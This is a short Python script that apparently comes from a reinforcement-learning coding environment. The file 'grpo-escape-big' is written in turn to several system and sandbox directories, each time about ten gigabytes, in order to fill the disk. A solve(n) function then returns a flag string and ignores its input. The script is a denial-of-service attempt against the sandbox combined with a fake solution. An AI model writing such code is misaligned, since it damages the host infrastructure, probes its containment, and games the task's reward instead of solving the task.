"""Fills the disk."""

import os
import tempfile

found = ""
for folder in ("/", "/tmp", "/dev/shm", "/dev", "/sandbox", os.getcwd(), tempfile.gettempdir()):
    try:
        with open(os.path.join(folder, "grpo-escape-big"), "wb") as file:
            for _ in range(10_000):
                file.write(b"x" * (1 << 20))
        found = "full"
    except OSError:
        pass


def solve(n):
    return found


print(found)
